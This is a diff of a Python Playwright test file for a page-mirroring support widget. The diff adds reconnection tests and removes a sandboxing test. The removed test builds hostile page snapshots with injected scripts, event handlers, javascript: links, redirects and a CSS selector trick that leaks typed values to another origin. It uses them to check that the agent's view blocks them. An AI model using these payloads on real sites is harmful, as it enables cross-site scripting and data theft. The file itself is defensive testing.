@@ -1,22 +1,18 @@
 """An agent sees the page that a visitor is on: from the tap to the last byte, and nothing of what is typed in it."""
 
-import json
 import re
 
-from django.utils import timezone
+import pytest
 from playwright.sync_api import expect
-from websockets.sync.client import connect
 
-from console.mirror import parts
-from console.widget import tokens
-from conversations.models import Inbox, Message, Mirror, Website
+from conversations.models import Message, Mirror, Website
 
 from .conftest import DESKTOP
 from .fitting import unfit
 from .leaks import SECRET, leaks, mirrored, typed
-from .seen import CHECKOUT, agree, browse, look, picture, published, screen, talk
+from .seen import CHECKOUT, agree, browse, look, picture, published, screen, talk, unasked
 
-__all__ = ["browse", "published", "talk"]
+__all__ = ["browse", "published", "talk", "unasked"]
 
 DOTS = re.compile("^•+$")
 
@@ -185,6 +181,56 @@ def test_the_visitor_refuses(talk, sign_in, browse):
     assert not any("/mirror.js" in url for url in visitor.page.asked)
 
 
+def test_a_question_outlives_a_page_that_is_loaded_anew(talk, sign_in, browse):
+    ana, _conversation = talk
+    visitor, agent = browse(CHECKOUT), sign_in(ana)
+    look(agent)
+    expect(visitor.chat.locator("#pw-mirror")).to_contain_text("Ana")
+
+    visitor.page.reload()
+
+    agree(visitor)
+    expect(picture(agent).locator("h1")).to_have_text("Delivery")
+    assert Mirror.objects.count() == 1
+
+
+@pytest.mark.parametrize("where", ["page", "chat"])
+def test_a_tap_stops_it_also_where_the_desk_cannot_hear_of_it_just_now(talk, sign_in, browse, unasked, where):
+    ana, _conversation = talk
+    visitor, agent = browse(CHECKOUT), sign_in(ana)
+    look(agent)
+    expect(picture(agent).locator("h1")).to_have_text("Delivery")
+    [chat] = [frame for frame in visitor.page.frames if "/widget/" in frame.url]
+    chat.evaluate(DEAF)
+
+    if where == "page":
+        visitor.chat.locator("#close").click()
+    place = visitor.page.locator("pupitre-chat .seen") if where == "page" else visitor.chat.locator(".pw-seen")
+    place.get_by_role("button", name="Stop").click()
+    expect(visitor.page.locator("pupitre-chat .seen")).to_have_count(0)
+    expect(screen(agent).get_by_text("is between two pages")).to_be_visible()
+    told = len(mirrored(visitor))
+    visitor.page.evaluate("document.querySelector('h1').textContent = 'Later'")
+
+    chat.evaluate("hearsAgain()")
+    expect(screen(agent).get_by_text("has stopped it")).to_be_visible()
+    assert len(mirrored(visitor)) == told
+    assert Mirror.objects.get().end == Mirror.End.STOPPED
+
+
+# What the chat says is lost, until its connection is made anew.
+DEAF = """() => {
+    const { send } = WebSocket.prototype;
+    WebSocket.prototype.send = function (said) {
+        if (this.url.endsWith("/mirror/")) return send.call(this, said);
+        window.hearsAgain = () => {
+            WebSocket.prototype.send = send;
+            this.close();
+        };
+    };
+}"""
+
+
 def test_nothing_that_is_hidden_leaves_the_browser(talk, sign_in, browse, shop):
     ana, _conversation = talk
     Website.objects.filter(pk=shop.pk).update(
@@ -236,89 +282,6 @@ def test_a_site_that_allows_sockets_to_nobody_is_seen_all_the_same(talk, sign_in
     look(agent)
 
     expect(picture(agent).locator("h1")).to_have_text("Delivery")
-
-
-# ---- a page that lies
-
-EVIL = "parent.ran = top.ran = true"
-
-
-def element(tag, attributes=None, *within, of=None):
-    """As rrweb tells of it; `of` counts the ids."""
-    number = next(of)
-    children = [one if isinstance(one, dict) else text(one, of) for one in within]
-    return {"type": 2, "tagName": tag, "attributes": attributes or {}, "childNodes": children, "id": number}
-
-
-def text(words, of):
-    return {"type": 3, "textContent": words, "id": next(of)}
-
-
-def hostile_nodes(evil, of):
-    def make(tag, attributes=None, *within):
-        return element(tag, attributes, *within, of=of)
-
-    drawing = make("svg", {"onload": EVIL}, make("script", {}, EVIL), make("a", {"xlink:href": f"javascript:{EVIL}"}))
-    return [
-        make("script", {}, EVIL),
-        make("script", {"src": f"{evil}/x.js"}),
-        make("img", {"src": "x", "onerror": EVIL, "onload": EVIL}),
-        make("a", {"id": "link", "href": f"javascript:{EVIL}", "onclick": EVIL, "target": "_top"}, "A link"),
-        make("form", {"action": evil, "target": "_top"}, make("button", {"id": "send", "formaction": evil}, "Send")),
-        make("meta", {"http-equiv": "refresh", "content": f"0;url={evil}"}),
-        make("base", {"href": evil}),
-        make("iframe", {"src": evil, "srcdoc": f"<script>{EVIL}</script>", "rr_src": evil}),
-        make("object", {"data": evil}),
-        make("embed", {"src": evil}),
-        make("link", {"rel": "stylesheet", "href": f"{evil}/x.css"}),
-        make("style", {"_cssText": f"@import url({evil}/y.css); input[value^=a] {{ background: url({evil}/a) }}"}),
-        make("style", {}, f"@font-face {{ font-family: x; src: \\75rl({evil}/f) }} * {{ font-family: x }}"),
-        make("div", {"style": f"background: url({evil}/b)", "background": f"{evil}/c"}, "Some words"),
-        make("video", {"src": f"{evil}/v", "poster": f"{evil}/p", "autoplay": "", "controls": ""}),
-        {**drawing, "isSVG": True},
-    ]
-
-
-def test_a_page_that_lies_runs_nothing_on_the_agents_screen_and_fetches_nothing_from_elsewhere(
-    talk, sign_in, browse, server, other_server, shop
-):
-    ana, conversation = talk
-    Website.objects.filter(pk=shop.pk).update(asks_before_mirroring=False)
-    browse("<h1>A page</h1>")
-    agent, asked = sign_in(ana), []
-    agent.page.on("requestfinished", lambda request: asked.append(request.url))  # what the policy refuses does not
-    look(agent)
-    expect(picture(agent).locator("h1")).to_have_text("A page")
-    of, at = iter(range(2, 1000)), {"timestamp": int(timezone.now().timestamp() * 1000)}
-    body = element(
-        "body", {"onload": EVIL}, element("h1", {}, "Here I am", of=of), *hostile_nodes(other_server.origin, of), of=of
-    )
-    page = {"type": 0, "childNodes": [element("html", {}, element("head", of=of), body, of=of)], "id": 1}
-    later = [{"parentId": body["id"], "nextId": None, "node": node} for node in hostile_nodes(other_server.origin, of)]
-    changes = {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": later}
-    events = [
-        {"type": 4, "data": {"href": f"javascript:{EVIL}", "width": 390, "height": 844}, **at},
-        {"type": 2, "data": {"node": page, "initialOffset": {"top": 0, "left": 0}}, **at},
-        {"type": 3, "data": changes, **at},
-        {"type": 3, "data": {"source": 9, "id": body["id"], "type": 0, "property": "drawImage", "args": [EVIL]}, **at},
-        {"type": 6, "data": {"plugin": "rrweb/console@1", "payload": EVIL}, **at},
-    ]
-
-    token = tokens.token_of(conversation.visitor.key, Inbox.objects.get())
-    address = f"{server.url.replace('http', 'ws')}/ws/widget/maison-lorme/mirror/"
-    with connect(address, origin=server.url) as line:
-        line.send(json.dumps({"type": "hello", "token": token, "language": "en"}))
-        while json.loads(line.recv())["type"] != "welcome":
-            pass
-        line.send(bytes([parts.BEGINS | parts.LAST]) + json.dumps(events).encode())
-        expect(picture(agent).locator("h1")).to_have_text("Here I am")
-        expect(picture(agent).get_by_text("Some words").last).to_be_attached()
-
-    frame = screen(agent).locator("#page iframe")
-    expect(frame).to_have_attribute("sandbox", "allow-same-origin")
-    assert [shown.evaluate("window.ran") for shown in agent.page.frames if shown.url != "about:blank"] == [None, None]
-    assert agent.page.url.startswith(server.url)
-    assert [url for url in asked if not url.startswith((server.url, "data:"))] == []
 
 
 def test_twenty_times_begun_and_stopped_leaves_nothing_on_the_visitors_page(talk, browse):
